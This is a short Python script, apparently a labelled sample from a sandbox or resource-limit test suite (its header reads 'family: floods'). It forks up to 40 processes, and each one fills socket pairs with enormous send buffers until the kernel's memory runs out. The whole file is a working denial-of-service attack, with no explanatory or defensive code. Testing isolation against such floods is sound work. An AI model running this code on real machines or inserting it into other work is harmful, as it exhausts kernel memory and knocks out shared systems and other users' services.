"""family: floods
tries: memory of the kernel: full pipes and socket buffers in many processes
honest: all
"""

# %%
import os
import socket
import time

for _ in range(40):
    try:
        if os.fork():
            continue
    except OSError:
        break
    ends = []
    try:
        while True:
            ends.append(socket.socketpair())
            ends[-1][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            ends[-1][0].setblocking(False)
            ends[-1][0].send(bytes(1 << 17))
    except OSError:
        time.sleep(60)
time.sleep(1)
